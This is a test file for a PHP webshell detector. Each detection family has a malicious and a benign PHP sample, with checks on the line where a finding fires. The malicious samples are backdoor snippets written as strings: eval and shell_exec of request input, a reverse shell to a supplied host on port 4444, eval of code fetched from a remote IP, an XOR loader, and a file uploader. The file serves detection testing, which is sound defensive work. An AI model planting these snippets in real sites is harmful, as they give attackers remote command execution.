import { test } from "node:test";
import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { phpAnalyzer } from "./php.ts";
import { lex, K_DSTR, K_STR, K_VAR, strValue } from "./php/lexer.ts";
import type { Reason } from "./types.ts";

const analyze = (code: string): Reason[] => phpAnalyzer.analyze(code);
const bad = (rs: Reason[]): Reason[] => rs.filter((r) => r.severity !== "info");

/** Deterministic filler so that tests do not depend on Math.random. */
function bytes(n: number, seed: number, alphabet?: string): string {
  let x = seed;
  let out = "";
  for (let i = 0; i < n; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    out += alphabet ? alphabet[x % alphabet.length] : String.fromCharCode(0x20 + (x % 0xdf));
  }
  return out;
}

const b64 = (s: string): string => Buffer.from(s, "latin1").toString("base64");
const highEntropy = bytes(1500, 7).replace(/['\\]/g, "x");
const codeBlob = b64("<?php\n" + Array.from({ length: 40 }, (_, i) => `$v${i} = 'padding line ${i} for a long payload';`).join("\n") + "\necho shell_exec($_POST['c']);\n");
const imageBlob = b64("\x89PNG\r\n\x1a\n" + bytes(2400, 3));
const gotoChain = Array.from({ length: 16 }, (_, i) => `L${i}: $s${i} = ${i}; goto L${i + 1};`).join("\n");

interface Case {
  family: string;
  severity: "malicious" | "suspicious" | "info";
  pos: string;
  line: number;
  neg: string;
}

// One positive and one negative case per heuristic family; the positive's finding line is asserted.
const CASES: Case[] = [
  { family: "input-to-eval", severity: "malicious", pos: "<?php\n\n@eval($_POST['pass']);\n", line: 3, neg: "<?php\n$compiled = compile_template(file_get_contents($tpl));\neval('?>' . $compiled);\n" },
  { family: "input-to-exec", severity: "malicious", pos: "<?php\n$c = trim($_GET['c']);\necho shell_exec($c);\n", line: 3, neg: "<?php\n$d = $_GET['d'];\nexec('ls ' . escapeshellarg($d), $out);\n" },
  { family: "input-to-include", severity: "malicious", pos: "<?php\ninclude($_REQUEST['page']);\n", line: 2, neg: "<?php\n$p = $_GET['p'];\ninclude __DIR__ . '/pages/' . $p . '.php';\n" },
  { family: "input-to-callback", severity: "malicious", pos: "<?php\n\narray_map('assert', $_POST);\n", line: 3, neg: "<?php\n$clean = array_map('trim', $_POST);\ncall_user_func(array($this, 'save'), $clean);\n" },
  { family: "variable-function", severity: "malicious", pos: "<?php\n$_GET[0]($_GET[1]);\n", line: 2, neg: "<?php\n$map = array('a' => 'show_a');\n$fn = $map[$_GET['op']] ?? 'show_a';\n$fn();\n" },
  { family: "decoder-eval", severity: "malicious", pos: `<?php\n$x = 1;\neval(gzinflate(base64_decode('${b64("not really deflated")}')));\n`, line: 3, neg: "<?php\n$img = base64_decode($_POST['png']);\nfile_put_contents($dir . '/avatar.png', $img);\n" },
  { family: "obfuscated-name", severity: "malicious", pos: "<?php\n$f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109);\n$f('id');\n", line: 2, neg: "<?php\n$nl = chr(13) . chr(10);\n$fn = 'str' . 'len';\necho $fn($nl);\n" },
  { family: "create-function", severity: "malicious", pos: "<?php\n$f = create_function('$a', 'ret' . 'urn $a;');\n", line: 2, neg: "<?php\nusort($rows, create_function('$a,$b', 'return $a - $b;'));\n" },
  { family: "preg-e", severity: "suspicious", pos: "<?php\n$t = preg_replace('/(\\w+)/e', 'strtoupper(\"\\\\1\")', $text);\n", line: 2, neg: "<?php\n$t = preg_replace('/(\\w+)/i', '<b>$1</b>', $text);\n" },
  { family: "encoded-blob", severity: "malicious", pos: `<?php\n$p = '${codeBlob}';\neval(base64_decode($p));\n`, line: 2, neg: `<?php\n$png = '${imageBlob}';\nheader('Content-Type: image/png');\necho base64_decode($png);\n` },
  { family: "high-entropy", severity: "malicious", pos: `<?php\n\neval('${highEntropy}');\n`, line: 3, neg: `<?php\n$key = '${highEntropy}';\necho strlen($key);\n` },
  { family: "crypto-loader", severity: "malicious", pos: "<?php\n$k = 'key';\n$d = base64_decode($_POST['d']);\nfor ($i = 0; $i < strlen($d); $i++) { $d[$i] = $d[$i] ^ $k[$i % 3]; }\neval($d);\n", line: 5, neg: "<?php\n$prefs = openssl_decrypt($_COOKIE['prefs'], 'aes-128-cbc', $key, 0, $iv);\n$_SESSION['prefs'] = json_decode($prefs, true);\n" },
  { family: "remote-code", severity: "malicious", pos: "<?php\n$u = 'http://203.0.113.9/x.txt';\neval(file_get_contents($u));\n", line: 3, neg: "<?php\n$cfg = json_decode(file_get_contents('https://api.example.org/cfg'), true);\n" },
  { family: "include-disguised", severity: "malicious", pos: "<?php\n@include \"\\x2fvar/tmp/.x/favicon_1a2b.ico\";\n", line: 2, neg: "<?php\ninclude 'templates/header.html';\n" },
  { family: "file-manager", severity: "malicious", pos: readFileSync("test/fixtures/webshell/malicious/php/file-manager/mini-manager.php", "latin1"), line: 19, neg: readFileSync("test/fixtures/webshell/benign/php/sysinfo-page.php", "latin1") },
  { family: "uploader", severity: "malicious", pos: "<?php\nif (isset($_FILES['f'])) {\n  move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);\n}\n", line: 3, neg: readFileSync("test/fixtures/webshell/benign/php/upload-checked.php", "latin1") },
  { family: "file-write", severity: "malicious", pos: "<?php\n$fp = fopen($_GET['f'], 'w');\nfwrite($fp, $_POST['c']);\n", line: 3, neg: readFileSync("test/fixtures/webshell/benign/php/installer-config.php", "latin1") },
  { family: "back-connect", severity: "malicious", pos: "<?php\n$s = fsockopen($_POST['h'], 4444);\n$p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);\n", line: 2, neg: readFileSync("test/fixtures/webshell/benign/php/smtp-socket.php", "latin1") },
  { family: "mass-mailer", severity: "malicious", pos: "<?php\n$list = explode(\"\\n\", $_POST['to']);\nforeach ($list as $to) {\n  mail($to, $_POST['s'], $_POST['b']);\n}\n", line: 4, neg: readFileSync("test/fixtures/webshell/benign/php/contact-form.php", "latin1") },
  { family: "goto-obfuscation", severity: "malicious", pos: `<?php\ngoto L0;\n${gotoChain}\nL16: eval(base64_decode($s1));\n`, line: 2, neg: readFileSync("test/fixtures/webshell/benign/php/state-machine-goto.php", "latin1") },
  { family: "function-table", severity: "malicious", pos: readFileSync("test/fixtures/webshell/malicious/php/function-table/globals-table.php", "latin1"), line: 4, neg: "<?php\n$GLOBALS['handlers'] = load_handlers();\n$GLOBALS['handlers'][$name]($event);\n" },
  { family: "port-scan", severity: "suspicious", pos: "<?php\n$h = $_POST['host'];\nfor ($p = 1; $p < 1024; $p++) {\n  $s = @fsockopen($h, $p, $e, $m, 1);\n  if ($s) { echo \"$p open\\n\"; fclose($s); }\n}\n", line: 4, neg: "<?php\nforeach ($servers as $srv) {\n  $s = @fsockopen($srv['host'], 80, $e, $m, 2);\n}\n" },
  { family: "session-payload", severity: "suspicious", pos: "<?php\nsession_start();\n$_SESSION['p'] = base64_decode($_COOKIE['p']);\n", line: 3, neg: "<?php\nsession_start();\n$_SESSION['user'] = $_POST['user'];\n" },
];

for (const k of CASES) {
  test(`WS-8 php.${k.family}: fires on the positive case at the right line`, () => {
    const rs = analyze(k.pos);
    const hit = rs.find((r) => r.id === `php.${k.family}` && r.line === k.line);
    assert.ok(hit, `no php.${k.family} at line ${k.line} in ${JSON.stringify(rs.map((r) => [r.id, r.line]))}`);
    assert.equal(hit.severity, k.severity);
    assert.equal(hit.layer, "heuristic");
    assert.ok(hit.text.length > 10 && (hit.excerpt ?? "").length <= 120);
    if (hit.severity === "suspicious") assert.ok((hit.score ?? 0) > 0);
  });
  test(`WS-8 php.${k.family}: silent on the negative case`, () => {
    assert.deepEqual(bad(analyze(k.neg)).map((r) => r.id), []);
  });
}

test("WS-6 php.phpinfo-exposure: a phpinfo page is info only, with its line", () => {
  const rs = analyze("<html><body>\n<?php\n// status\nphpinfo();\n?>\n</body></html>\n");
  assert.deepEqual(rs.map((r) => [r.id, r.severity, r.line]), [["php.phpinfo-exposure", "info", 4]]);
  assert.deepEqual(analyze("<?php\n// never call phpinfo() here\necho 'phpinfo is disabled';\n"), []);
});

test("WS-5 a common file that gains a backdoor statement is flagged at that statement", () => {
  const clean = readFileSync("test/fixtures/webshell/benign/php/plugin-loader.php", "latin1");
  assert.deepEqual(bad(analyze(clean)), []);
  const lines = clean.split("\n");
  lines.splice(5, 0, "if (isset($_REQUEST['up'])) { eval(stripslashes($_REQUEST['up'])); }");
  const rs = bad(analyze(lines.join("\n")));
  assert.deepEqual(rs.map((r) => [r.id, r.severity, r.line]), [["php.input-to-eval", "malicious", 6]]);
});

test("WS-8 a backdoor appended to a huge file is still found (tail analysis)", () => {
  const big = "<?php\n$data = array(\n" + "  'k' => 'value',\n".repeat(400_000) + ");\n?>\n<?php @eval($_POST['z']); ?>\n";
  const hit = analyze(big).find((r) => r.id === "php.input-to-eval");
  assert.ok(hit);
  assert.equal(hit.line, 400_005);
});

test("WS-8 lexer: comments, inline HTML and nowdoc text never fire", () => {
  const code = [
    "<html><!-- eval($_POST['x']); system($_GET['c']); --></html>",
    "<?php // eval($_POST['x']);",
    "# system($_GET['c']);",
    "/* assert($_REQUEST['z']); */",
    "$doc = <<<'TXT'",
    "eval($_POST['x']);",
    "TXT;",
    "echo $doc; ?>",
    "eval($_POST['y'])",
  ].join("\n");
  assert.deepEqual(bad(analyze(code)), []);
});

test("WS-8 lexer: tokens, lines, strings, heredoc interpolation and close tags", () => {
  const t = lex("<?php\n$a = 'x\\'y';\n$b = \"\\x61\\x73\";\n$c = <<<EOT\n{$_GET['q']}\nEOT;\n?>tail<?= $a ?>");
  const vars: string[] = [];
  const strs: string[] = [];
  for (let i = 0; i < t.n; i++) {
    if (t.kind[i] === K_VAR) vars.push(t.text.slice(t.start[i], t.end[i]));
    if (t.kind[i] === K_STR || t.kind[i] === K_DSTR) strs.push(strValue(t, i));
  }
  assert.deepEqual(vars, ["a", "b", "c", "a"]);
  assert.deepEqual(strs, ["x'y", "as", "{$_GET['q']}"]);
  assert.equal(t.htmlBytes, 4);
  assert.equal(analyze("<?php\n$c = <<<EOT\n{$_GET['q']}\nEOT;\neval($c);\n").find((r) => r.id === "php.input-to-eval")?.line, 5);
});

test("WS-8 analyzer never throws and bounds work on hostile input", () => {
  const nested = "<?php " + "(".repeat(20000) + "$x" + ")".repeat(5000);
  const long = "<?php $a = '" + "A".repeat(3 << 20) + "'; echo 1;";
  const t0 = performance.now();
  for (const s of [nested, long, "<?php \"unterminated", "<?php <<<", "\x00\xff<?", ""]) assert.ok(Array.isArray(analyze(s)));
  assert.ok(performance.now() - t0 < 5000);
});

function fixtures(dir: string): Array<[string, string]> {
  const out: Array<[string, string]> = [];
  for (const e of readdirSync(dir, { withFileTypes: true })) {
    const p = join(dir, e.name);
    if (e.isDirectory()) for (const [q] of fixtures(p)) out.push([q, e.name]);
    else out.push([p, ""]);
  }
  return out;
}

test("WS-8 every malicious PHP fixture is flagged with its family (the folder name)", () => {
  const files = fixtures("test/fixtures/webshell/malicious/php");
  assert.ok(files.length >= 60, `only ${files.length} fixtures`);
  const misses: string[] = [];
  for (const [f, family] of files) {
    const rs = analyze(readFileSync(f, "latin1"));
    if (!rs.some((r) => r.id === `php.${family}` && r.severity !== "info")) misses.push(`${f}: ${rs.map((r) => r.id).join(",")}`);
    if (!rs.some((r) => r.severity === "malicious")) misses.push(`${f}: not malicious`);
  }
  assert.deepEqual(misses, []);
});

test("WS-8 / WS-6 every benign PHP fixture is clean (phpinfo pages: info only)", () => {
  const files = fixtures("test/fixtures/webshell/benign/php");
  assert.ok(files.length >= 30);
  const fps: string[] = [];
  for (const [f] of files) {
    const rs = analyze(readFileSync(f, "latin1"));
    for (const r of bad(rs)) fps.push(`${f}:${r.line} ${r.id}`);
  }
  assert.deepEqual(fps, []);
});
